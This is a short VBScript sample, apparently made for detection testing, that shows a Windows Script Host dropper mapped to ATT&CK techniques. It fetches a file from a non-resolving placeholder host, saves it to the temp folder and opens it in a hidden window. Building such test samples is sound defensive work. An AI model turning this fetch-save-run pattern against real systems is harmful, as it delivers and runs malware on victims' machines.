' Shows: a dropper for Windows Script Host (ATT&CK T1059.005, T1105): fetch a file, store it, start it.
' The host does not exist (.invalid, RFC 2606), so there is nothing to fetch.
Option Explicit

Dim http, stream, shell, target
Set shell = CreateObject("WScript.Shell")
target = shell.ExpandEnvironmentStrings("%TEMP%") & "\amsight-marker.txt"

Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", "https://downloads.example.invalid/invoice.txt", False
http.Send

Set stream = CreateObject("ADODB.Stream")
stream.Type = 1
stream.Open
stream.Write http.ResponseBody
stream.SaveToFile target, 2
stream.Close

shell.Run "notepad.exe " & target, 0, False
